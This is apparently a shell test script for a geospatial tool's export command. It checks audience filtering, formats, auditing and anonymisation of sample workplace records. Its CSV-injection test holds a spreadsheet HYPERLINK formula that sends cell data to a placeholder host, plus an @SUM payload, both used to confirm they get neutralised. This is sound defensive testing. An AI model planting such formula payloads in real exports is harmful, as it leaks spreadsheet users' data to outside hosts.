#!/bin/sh
# test_export_cli.sh: `sinspace export` end to end, read back by the
# command-line tools a researcher uses: ogrinfo for every format, and two
# independent GeoJSON validators from npm (tests/geojson_check.js; installed
# by scripts/deps-npm.sh; without them this test reports SKIP, exit 77,
# after every other check has passed).
set -eu
B=${SINSPACE_BIN:?}
SRC=${SINSPACE_SOURCE_ROOT:?}
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT
passed=0
fail() { echo "FAIL: $*"; echo "export_cli: $passed passed, 1 failed"; exit 1; }
ok() { passed=$((passed + 1)); }
count_of() { ogrinfo -ro -so -al "$1" 2>/dev/null | sed -n 's/^Feature Count: //p' | head -1; }
mode_of() { stat -c %a "$1"; }

DB=$T/db.sqlite
"$B" -q init "$DB"
"$B" -q import "$DB" "$SRC/tests/data/chiang_mai_amphoe.geojson" --level district
"$B" -q import "$DB" "$SRC/tests/data/chiang_mai_tambon.geojson" --level subdistrict
"$B" -q import "$DB" "$SRC/tests/data/export_workplaces.csv"

# Audiences: count, mode, fields.
for aud in public partner internal; do
  "$B" -q export "$DB" workplaces -o "$T/w-$aud.geojson" --audience "$aud"
  [ "$(count_of "$T/w-$aud.geojson")" = 80 ] || fail "$aud: ogrinfo count"
  [ "$(mode_of "$T/w-$aud.geojson")" = 600 ] || fail "$aud: mode"
  ok
done
fields() { ogrinfo -ro -so -al "$1" | sed -n 's/^\([a-z_0-9]*\): .*/\1/p' | tr '\n' ' '; }
[ "$(fields "$T/w-public.geojson")" = "sector status risk risk_class district first_seen last_seen " ] \
  || fail "public fields: $(fields "$T/w-public.geojson")"
[ "$(fields "$T/w-partner.geojson")" = "id name name_local sector status risk risk_class area first_seen last_seen " ] \
  || fail "partner fields: $(fields "$T/w-partner.geojson")"
grep -q '"observer":"observer 1"' "$T/w-internal.geojson" || fail "internal lacks observer"
grep -q '"audience":"public"' "$T/w-public.geojson" || fail "public lacks its audience"
ok

# Every format and layer that has rows.
for ext in gpkg shp kml fgb csv geojsons geojsonl; do
  "$B" -q export "$DB" workplaces -o "$T/f.$ext" --audience partner
  [ "$(count_of "$T/f.$ext")" = 80 ] || fail "$ext: count $(count_of "$T/f.$ext")"
  "$B" -q export "$DB" areas -o "$T/a.$ext"
  [ "$(count_of "$T/a.$ext")" = 229 ] || fail "areas $ext: count"
  for f in "$T"/f.* "$T"/a.*; do
    [ "$(mode_of "$f")" = 600 ] || fail "$f: mode $(mode_of "$f")"
  done
  ok
done
ogrinfo -ro -so "$T/f.gpkg" workplaces | grep -q 'SINSPACE_AUDIENCE=partner' || fail "gpkg metadata"
ok

# Standard output, GeoJSONSeq by --format, precision, bbox.
"$B" -q export "$DB" workplaces -o - --audience partner --precision 3 --bbox-member > "$T/stdout.geojson"
[ "$(count_of "$T/stdout.geojson")" = 80 ] || fail "stdout count"
grep -q '"coordinates":\[99.005,18.769\]' "$T/stdout.geojson" || fail "precision 3"
grep -q '"bbox":\[' "$T/stdout.geojson" || fail "bbox member"
"$B" -q export "$DB" areas -o "$T/a.geojson" --audience internal --bbox-member
[ "$(count_of "$T/a.geojson")" = 229 ] || fail "areas GeoJSON"
"$B" -q export "$DB" observations -o "$T/obs.txt" --format GeoJSONSeq
[ "$(count_of "$T/obs.txt")" = 71 ] || fail "GeoJSONSeq by --format"
"$B" -q export "$DB" workplaces -o "$T/agg.geojson" --aggregate --level subdistrict --min-count 3
[ "$(count_of "$T/agg.geojson")" = 204 ] || fail "aggregate"
"$B" -q export "$DB" workplaces -o "$T/fang.geojson" --area fang --audience partner
[ "$(count_of "$T/fang.geojson")" = "$(sqlite3 "$DB" "SELECT count(*) FROM workplaces WHERE area_code LIKE 'fang/%'")" ] \
  || fail "--area fang"
ok

# Usage errors exit 2 and write nothing.
st=0; "$B" -q export "$DB" workplaces -o "$T/x.geojson" --audience intern 2>/dev/null || st=$?
[ $st = 2 ] || fail "--audience intern: exit $st"
st=0; "$B" -q export "$DB" people -o "$T/x.geojson" 2>/dev/null || st=$?
[ $st = 2 ] || fail "unknown layer: exit $st"
st=0; "$B" -q export "$DB" workplaces 2>/dev/null || st=$?
[ $st = 2 ] || fail "no -o: exit $st"
st=0; "$B" -q export "$DB" workplaces -o - --format GPKG >/dev/null 2>&1 || st=$?
[ $st = 2 ] || fail "GPKG to stdout: exit $st"
[ ! -e "$T/x.geojson" ] || fail "a failed export left a file"
ok

# Every export was audited.
n=$(sqlite3 "$DB" "SELECT count(*) FROM audit WHERE command = 'export'")
[ "$n" = 22 ] || fail "audit rows: $n"
sqlite3 "$DB" "SELECT audience || ' ' || rows FROM audit WHERE command = 'export' AND target LIKE 'workplaces -> %w-internal.geojson (GeoJSON)'" \
  | grep -qx 'internal 80' || fail "audit row of the internal export"
ok

# CSV injection: a name a spreadsheet would run as a formula (=, +, -, @)
# is written with an apostrophe inside its cell, by query and by export;
# a number that starts with a minus sign is left alone.
FDB=$T/formula.sqlite
"$B" -q init "$FDB"
cat > "$T/formula.csv" <<'CSV'
id,name,sector,lon,lat,observed,risk
F1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,98.98,18.79,2025-01-01,2.0
F2,-Minus Bar,brothel,98.981,18.791,2025-01-01,1.5
F3,-12.5,brothel,98.982,18.792,2025-01-01,1.5
F4,@SUM(A1),brothel,98.983,18.792,2025-01-01,1.5
F5,Plain Bar,brothel,98.984,18.792,2025-01-01,1.5
CSV
"$B" -q import "$FDB" "$T/formula.csv"
"$B" -q query "$FDB" --bbox 98,18,99,19 --format csv > "$T/fq.csv"
grep -qx 'F1,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,2.000,medium,98.980000,18.790000,,2025-01-01' "$T/fq.csv" \
  || fail "query CSV formula: $(cat "$T/fq.csv")"
grep -q "^F2,'-Minus Bar," "$T/fq.csv" || fail "query CSV minus"
grep -q "^F3,-12.5," "$T/fq.csv" || fail "query CSV number touched"
grep -q "^F4,'@SUM(A1)," "$T/fq.csv" || fail "query CSV at-sign"
grep -q "^F5,Plain Bar," "$T/fq.csv" || fail "query CSV plain"
"$B" -q export "$FDB" workplaces -o "$T/fe.csv" --audience partner
grep -q ",F1,\"'=HYPERLINK(" "$T/fe.csv" || fail "export CSV formula: $(cat "$T/fe.csv")"
grep -q ",F4,'@SUM(A1)," "$T/fe.csv" || fail "export CSV at-sign"
grep -q ',F3,"\?-12.5"\?,' "$T/fe.csv" || fail "export CSV number touched"
# GeoJSON is not a spreadsheet format: names go out as they are.
"$B" -q export "$FDB" workplaces -o "$T/fe.geojson" --audience partner
grep -q '"name":"=HYPERLINK(' "$T/fe.geojson" || fail "GeoJSON name changed"
ok

# Public means unlinkable, on the sample database (samples/build-sample.sh:
# Bangkok's 50 districts, Khlong Toei's 300 workplaces and its water).
GEN=${SINSPACE_BUILD_ROOT:?}/tools/sinspace-gen
[ -x "$GEN" ] || fail "$GEN is not built"
S=$T/sample.sqlite
SINSPACE=$B SINSPACE_GEN=$GEN SAMPLE_DB=$S bash "$SRC/samples/build-sample.sh" \
  >/dev/null 2>&1 || fail "samples/build-sample.sh"
"$B" -q export "$S" workplaces --area 1033 -o "$T/kt-public.geojson"
"$B" -q export "$S" workplaces --area 1033 --audience partner -o "$T/kt-partner.geojson"
[ "$(count_of "$T/kt-public.geojson")" = 300 ] || fail "Khlong Toei public count"
[ "$(count_of "$T/kt-partner.geojson")" = 300 ] || fail "Khlong Toei partner count"
# Checked against the sample's own water file, not the store's copy:
# ogr2ogr puts both in one SpatiaLite file and SQL asks ST_Intersects.
C=$T/check.sqlite
ogr2ogr -f SQLite -dsco SPATIALITE=YES "$C" "$SRC/samples/data/water_khlong_toei.geojson" -nln water
ogr2ogr -update "$C" "$T/kt-public.geojson" -nln pub
ogr2ogr -update "$C" "$T/kt-partner.geojson" -nln par
sql() { ogrinfo -ro -q "$C" -sql "$1" | sed -n 's/^ *n ([A-Za-z0-9]*) = //p'; }
wet() { sql "SELECT count(*) AS n FROM $1 AS p WHERE EXISTS (SELECT 1 FROM water AS w
             WHERE MbrIntersects(w.GEOMETRY, p.GEOMETRY) AND ST_Intersects(w.GEOMETRY, p.GEOMETRY) = 1)"; }
[ "$(wet pub)" = 0 ] || fail "$(wet pub) public points of Khlong Toei in the water"
# The same check finds water: without the store's water layer, points land
# in it (a copy of the sample, same secret, water rows deleted).
cp "$S" "$T/dry.sqlite"
sqlite3 "$T/dry.sqlite" "DELETE FROM water" || fail "cannot empty the water of the copy"
"$B" -q export "$T/dry.sqlite" workplaces --area 1033 -o "$T/kt-dry.geojson"
ogr2ogr -update "$C" "$T/kt-dry.geojson" -nln dry
[ "$(wet dry)" -gt 0 ] || fail "no point of the water-blind export is in the water: the check cannot fail"
ok
# Not the partner file's order: row by row, the sectors and statuses of the
# two files differ (the same order would repeat them exactly).
seq_of() { sql "SELECT group_concat(sector || '/' || status, ',') AS n FROM (SELECT * FROM $1 ORDER BY ogc_fid)"; }
[ "$(seq_of pub)" != "$(seq_of par)" ] || fail "the public file is in the partner file's order"
# ... yet the same order on every export of the store.
"$B" -q export "$S" workplaces --area 1033 -o "$T/kt-again.geojson"
[ "$(sed 1d "$T/kt-public.geojson")" = "$(sed 1d "$T/kt-again.geojson")" ] \
  || fail "two public exports differ"
# Risk to one decimal, dates to the month; the partner's stay whole.
[ "$(sql "SELECT count(*) AS n FROM pub WHERE risk IS NOT NULL AND abs(risk * 10 - round(risk * 10)) > 1e-9")" = 0 ] \
  || fail "public risk finer than one decimal"
[ "$(sql "SELECT count(*) AS n FROM par WHERE abs(risk * 10 - round(risk * 10)) > 1e-9")" -gt 100 ] \
  || fail "partner risk rounded"
[ "$(sql "SELECT count(*) AS n FROM pub WHERE first_seen GLOB '[0-9][0-9][0-9][0-9]-[0-1][0-9]'
           AND last_seen GLOB '[0-9][0-9][0-9][0-9]-[0-1][0-9]'")" = 300 ] || fail "public dates not YYYY-MM"
"$B" -q export "$S" observations --area 1033 -o "$T/kt-obs.geojson"
grep -q '"i01"' "$T/kt-obs.geojson" && fail "public observations carry indicator scores"
grep -q '"observed":"20[0-9][0-9]-[01][0-9]"' "$T/kt-obs.geojson" || fail "public observation dates"
grep -q '"observed":"20[0-9][0-9]-[01][0-9]-' "$T/kt-obs.geojson" && fail "public observation with a full date"
ok

# --aggregate honours the region; empty districts show 0, not "withheld".
"$B" export "$S" workplaces --aggregate --area Bangkok -o "$T/bkk.geojson" 2>"$T/bkk.msg"
grep -q 'exported 50 areas' "$T/bkk.msg" || fail "aggregate message: $(cat "$T/bkk.msg")"
ogr2ogr -update "$C" "$T/bkk.geojson" -nln bkk
[ "$(sql "SELECT count(*) AS n FROM bkk")" = 50 ] || fail "aggregate --area Bangkok: $(sql "SELECT count(*) AS n FROM bkk") areas"
[ "$(sql "SELECT count(*) AS n FROM bkk WHERE parent_code <> 'bangkok'")" = 0 ] || fail "aggregate left Bangkok"
[ "$(sql "SELECT count(*) AS n FROM bkk WHERE workplaces = 0 AND suppressed = 0")" = 49 ] \
  || fail "empty districts not shown as 0"
[ "$(sql "SELECT workplaces AS n FROM bkk WHERE code = '1033'")" = 300 ] || fail "Khlong Toei's count"
ok

# CSV: ISO 8601 dates, coordinates at --precision.
"$B" -q export "$S" workplaces --area 1033 --audience partner -o "$T/kt.csv"
"$B" -q export "$S" workplaces --area 1033 -o "$T/kt-public.csv"
"$B" -q export "$S" workplaces --area 1033 --audience partner --precision 4 -o "$T/kt4.csv"
grep -q '/' "$T/kt.csv" && fail "CSV with a slashed date: $(grep -m1 / "$T/kt.csv")"
[ "$(grep -c ',20[0-9][0-9]-[01][0-9]-[0-3][0-9],20[0-9][0-9]-[01][0-9]-[0-3][0-9]$' "$T/kt.csv")" = 300 ] \
  || fail "partner CSV dates"
[ "$(grep -c ',20[0-9][0-9]-[01][0-9],20[0-9][0-9]-[01][0-9]$' "$T/kt-public.csv")" = 300 ] \
  || fail "public CSV dates"
for f in kt kt-public; do
  [ "$(grep -cE '^-?[0-9]+\.[0-9]{1,6},-?[0-9]+\.[0-9]{1,6},' "$T/$f.csv")" = 300 ] \
    || fail "$f.csv coordinates: $(sed -n 2p "$T/$f.csv")"
done
[ "$(grep -cE '^-?[0-9]+(\.[0-9]{1,4})?,-?[0-9]+(\.[0-9]{1,4})?,' "$T/kt4.csv")" = 300 ] \
  || fail "CSV --precision 4: $(sed -n 2p "$T/kt4.csv")"
ok

# The independent validators.
missing=
command -v node >/dev/null 2>&1 || missing="node (Debian package nodejs)"
for v in @placemarkio/check-geojson geojson-validation; do
  [ -d "$SRC/tests/node/node_modules/$v" ] || missing="${missing:+$missing, }$v in tests/node"
done
if [ -n "$missing" ]; then
  # CI installs them (scripts/test.sh runs scripts/deps-npm.sh): there a
  # missing validator is a failure, never a silent skip.
  if [ "${CI:-}" = true ]; then
    fail "GeoJSON validators missing in CI: $missing (scripts/deps-npm.sh)"
  fi
  echo "SKIP: GeoJSON validators missing: $missing (run scripts/deps-npm.sh)"
  echo "export_cli: $passed passed, 0 failed"
  exit 77
fi
for f in w-public w-partner w-internal stdout agg fang a; do
  file="$T/$f.geojson"
  out=$(node "$SRC/tests/geojson_check.js" "$file" 2>&1) || fail "$f: $out"
done
for f in obs.txt f.geojsons f.geojsonl a.geojsons; do
  out=$(node "$SRC/tests/geojson_check.js" "$T/$f" --seq 2>&1) || fail "$f: $out"
done
ok
echo "export_cli: $passed passed, 0 failed"
